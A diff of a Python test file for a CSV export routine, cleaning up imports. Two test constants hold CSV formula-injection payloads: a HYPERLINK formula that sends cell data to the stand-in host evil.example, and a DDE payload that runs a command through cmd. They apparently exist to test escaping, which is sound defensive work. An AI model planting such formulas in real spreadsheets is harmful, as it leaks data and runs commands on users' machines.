@@ -7,16 +7,12 @@ from __future__ import annotations
 
 import csv
 import io
-import sys
-from pathlib import Path
 
 import pytest
 
-sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "test_creditbank"))
 
-from bankkit import (SESSION_START, api_client, close_api, credited_district,  # noqa: E402
-                     db_url)  # noqa: F401 (db_url: a fixture)
-from server_hub.store import csvout  # noqa: E402
+from bankkit import SESSION_START, api_client, close_api, credited_district
+from server_hub.store import csvout
 
 EVIL_STATION = '=HYPERLINK("http://evil.example/?"&A1,"open")'
 EVIL_ADMIN = "@SUM(1+1)*cmd|' /C calc'!A0"
